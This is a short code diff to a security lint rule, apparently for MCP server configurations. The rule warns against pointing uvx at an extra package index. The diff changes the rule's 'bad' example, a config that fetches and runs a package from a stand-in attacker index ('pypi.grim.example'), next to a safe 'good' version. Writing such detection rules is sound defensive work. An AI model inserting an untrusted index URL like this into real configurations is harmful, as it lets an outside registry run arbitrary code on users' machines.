@@ -19,7 +19,7 @@ export default defineRule({
   docs: {
     why: 'Whoever runs that registry decides what code runs here, whatever name and version the command shows. An extra index wins over the usual one by offering a higher version.',
     remedy: 'Remove the setting. Registries of your organisation belong into your own settings.',
-    bad: '{ "mcpServers": { "x": { "command": "uvx", "args": ["--index-url", "https://pypi.evil.example/simple", "x==1.0.0"] } } }',
+    bad: '{ "mcpServers": { "x": { "command": "uvx", "args": ["--index-url", "https://pypi.grim.example/simple", "x==1.0.0"] } } }',
     good: '{ "mcpServers": { "x": { "command": "uvx", "args": ["x==1.0.0"] } } }',
     references: ['https://cwe.mitre.org/data/definitions/427.html', 'https://docs.astral.sh/uv/concepts/indexes/'],
   },
